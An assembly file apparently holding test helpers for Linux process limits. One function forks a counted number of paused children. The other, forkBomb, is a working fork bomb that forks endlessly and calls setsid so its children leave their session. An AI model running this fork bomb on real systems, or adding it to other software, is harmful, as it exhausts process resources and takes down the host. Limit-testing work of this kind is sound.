#include "textflag.h"

// See fork_linux.go.

// func forkSleepers(n uintptr) (made uintptr)
TEXT ·forkSleepers(SB),NOSPLIT,$0-16
	MOVQ n+0(FP), R12
	XORQ R13, R13
next:
	TESTQ R12, R12
	JEQ done
	DECQ R12
	MOVQ $56, AX // clone
	MOVQ $17, DI // SIGCHLD
	XORQ SI, SI
	XORQ DX, DX
	XORQ R10, R10
	XORQ R8, R8
	SYSCALL
	TESTQ AX, AX
	JEQ child
	JLT next // no room: counted by its absence
	INCQ R13
	JMP next
child:
	MOVQ $34, AX // pause
	SYSCALL
	JMP child
done:
	MOVQ R13, made+8(FP)
	RET

// func forkBomb()
TEXT ·forkBomb(SB),NOSPLIT,$0-0
again:
	MOVQ $56, AX // clone
	MOVQ $17, DI // SIGCHLD
	XORQ SI, SI
	XORQ DX, DX
	XORQ R10, R10
	XORQ R8, R8
	SYSCALL
	TESTQ AX, AX
	JNE again
	MOVQ $112, AX // setsid
	SYSCALL
	JMP again
